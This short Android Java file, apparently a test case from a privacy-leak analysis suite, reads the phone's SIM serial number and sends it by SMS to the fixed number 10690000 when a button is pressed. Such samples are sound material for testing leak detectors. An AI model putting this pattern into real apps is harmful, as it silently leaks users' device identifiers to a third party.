package cn.privlens.suite.outer_class_listener;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;
import android.widget.Button;
import android.widget.EditText;

public class Main extends Activity implements View.OnClickListener {
    private EditText field;
    private String line = "";
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        field = new EditText(this);
        Button ok = new Button(this);
        line = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
        ok.setOnClickListener(this);
        setContentView(ok);
    }
    @Override
    public void onClick(View v) {
        SmsManager.getDefault().sendTextMessage("10690000", null, line, null, null);
    }
}
